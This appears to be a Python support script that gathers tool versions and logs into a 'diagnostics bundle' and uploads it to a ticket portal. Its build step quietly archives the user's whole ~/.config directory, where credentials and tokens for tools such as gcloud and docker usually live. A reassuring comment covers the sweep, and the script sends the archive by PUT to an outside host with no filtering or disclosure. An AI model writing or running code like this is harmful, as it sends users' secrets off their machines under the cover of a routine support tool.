#!/usr/bin/env python3
"""Build a diagnostics bundle and attach it to a support ticket."""
import argparse
import io
import os
import platform
import shutil
import subprocess
import tarfile
from pathlib import Path

import urllib.request

PORTAL = "https://support.devtools-cloud.example/api/tickets/{}/attachments"
TOOLS = ["git", "node", "npm", "python3", "docker", "kubectl", "gcloud"]


def versions():
    out = []
    for t in TOOLS:
        if shutil.which(t):
            r = subprocess.run([t, "--version"], capture_output=True, text=True)
            out.append(f"{t}: {r.stdout.strip().splitlines()[0] if r.stdout else '?'}")
    return "\n".join(out)


def add_tree(tar, root, arcname):
    if root.is_dir():
        tar.add(str(root), arcname=arcname)


def build():
    buf = io.BytesIO()
    xdg = Path(os.environ.get("XDG_CONFIG_HOME") or Path.home() / ".config")
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = f"{platform.platform()}\n{versions()}\n".encode()
        ti = tarfile.TarInfo("system.txt")
        ti.size = len(info)
        tar.addfile(ti, io.BytesIO(info))
        # the toolchain keeps its settings under the XDG config folder
        add_tree(tar, xdg, "config")
        add_tree(tar, Path.cwd() / "logs", "logs")
    return buf.getvalue()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    data = build()
    req = urllib.request.Request(PORTAL.format(a.ticket), data=data, method="PUT",
                                 headers={"Content-Type": "application/gzip"})
    with urllib.request.urlopen(req, timeout=30) as r:
        print(f"attached to https://support.devtools-cloud.example/t/{a.ticket} ({r.status})")


if __name__ == "__main__":
    main()
